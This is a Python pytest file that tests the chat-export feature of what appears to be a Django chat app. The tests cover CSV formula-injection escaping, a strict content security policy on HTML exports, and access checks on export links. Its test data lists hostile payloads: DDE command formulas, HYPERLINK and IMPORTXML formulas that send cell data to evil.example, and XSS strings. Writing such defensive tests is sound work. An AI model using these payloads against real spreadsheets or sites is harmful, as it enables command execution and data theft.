"""S22: exported files are harmless, and downloads require current access.

There are no public links to files. A file is generated on request, for a session or key with read
access. No stored file has to expire.
"""

import csv
import io
import re
from datetime import datetime
from html.parser import HTMLParser

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.utils import timezone

from chats.models import ApiKey, Chat, Message
from contextpolicy.audit.export import format_csv_row
from contextpolicy.models import AuditEvent
from tests.chats.api.programs import MakeProgram, Program
from tests.security.addresses import routes
from tests.support.chat_messages import fill_with_every_kind
from tests.support.exchange_files import read_body

# Texts that spreadsheets evaluate or look up.
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Error")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "+1+1",
    "+cmd|' /C notepad'!'A1'",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
]
# Cells that try to end their cell or row and start another one with a formula.
ESCAPES = ['",=1+1', '"\n=1+1', "x\n=1+1", "x\r\n=1+1", ";=1+1", '"";"=1+1"']
HARMLESS = ["", "1+1", "a=b", " =1+1", "'=1+1", "田中さんにあげて下さい", "\u200f=1+1", "1E+02"]
NAUGHTY = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "[x](javascript:alert(1))",
    "![x](http://evil.example/p.png)",
    "<svg/onload=alert(1)>",
    "<style>@import 'http://evil.example'</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href='http://evil.example'>",
    "</title><script>alert(1)</script>",
    "\u202e\u0000\ufeff".replace("\x00", ""),
]


@pytest.mark.parametrize("text", [*FORMULAS, *ESCAPES, *HARMLESS])
def test_S22_no_cell_is_a_formula_and_none_leaves_its_place(text: str) -> None:
    written = format_csv_row((text, "next"))
    (row,) = csv.reader(io.StringIO(written, newline=""))
    assert row == [f"'{text}" if text in FORMULAS else text, "next"]
    # Each cell is quoted, so a semicolon or tab does not split it.
    assert written == ",".join('"' + cell.replace('"', '""') + '"' for cell in row) + "\r\n"
    assert not row[0].startswith(tuple("=+-@\t\r\n＝＋－＠"))


class Page(HTMLParser):
    """Collects the parts of an exported page that could run code or send requests."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.live: list[str] = []
        self.policies: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        given = {name: value or "" for name, value in attrs}
        if given.get("http-equiv"):
            self.policies.append(given["content"])
        # A link to another site is followed only after a click.
        self.live += [name for name in given if name.startswith("on")]
        self.live += [src for src in (given.get("src"),) if src and not src.startswith("data:")]
        self.live += [to for to in (given.get("href"),) if to and not to.startswith("http")]


@pytest.mark.parametrize("text", NAUGHTY)
def test_S22_a_page_runs_and_asks_for_nothing(
    text: str, chat: Chat, of_alice: Program, now: datetime
) -> None:
    branch = fill_with_every_kind(chat, 2, now=now)
    Message.objects.filter(branch=branch).update(parts=[{"type": "text", "text": text}])
    Chat.objects.filter(pk=chat.pk).update(title=text)
    page = Page()
    page.feed(read_body(of_alice.get(f"chats/{chat.pk}/export", form="html")).decode())
    (policy,) = page.policies
    assert dict(each.split(" ", 1) for each in policy.split("; ")) == {
        "default-src": "'none'",
        "style-src": "'unsafe-inline'",
        "img-src": "data:",
    }
    assert page.live == []
    assert not page.tags & {"script", "iframe", "object", "embed", "base", "link", "form", "svg"}


def test_S22_addresses_of_files_have_no_key_of_their_own() -> None:
    written = [
        each.text
        for each in routes()
        if re.search(r"export|/file$|certificate|everything", each.text)
    ]
    assert len(written) >= 7
    for text in written:
        assert not re.search(r"token|sign|secret|expire", text), text


@pytest.mark.parametrize("door", ["page", "API"])
def test_S22_an_address_opens_to_its_person_alone_and_no_longer_than_they_may(
    door: str, chat: Chat, alice: User, bob: User, program: MakeProgram, now: datetime
) -> None:
    fill_with_every_kind(chat, 2, now=now)
    if door == "API":
        paths = [f"/api/v1/chats/{chat.pk}/export", "/api/v1/export"]
        of_alice, of_bob = program(alice).client, program(bob).client
    else:
        paths = [f"/chats/{chat.pk}/export?form=html", "/settings/exchange/everything"]
        of_alice, of_bob = Client(), Client()
        of_alice.force_login(alice)
        of_bob.force_login(bob)
    told = AuditEvent.objects.filter(type="chat.exported", actor=f"user:{alice.pk}")
    for count, path in enumerate(paths, start=1):
        assert read_body(of_alice.get(path))
        assert told.count() == count
        assert Client().get(path).status_code in {302, 401}
    assert of_bob.get(paths[0]).status_code == 404
    ApiKey.objects.filter(owner=alice).update(revoked_at=timezone.now())
    if door == "page":
        of_alice.logout()
    assert {of_alice.get(path).status_code for path in paths} <= {302, 401}
    assert told.count() == len(paths)
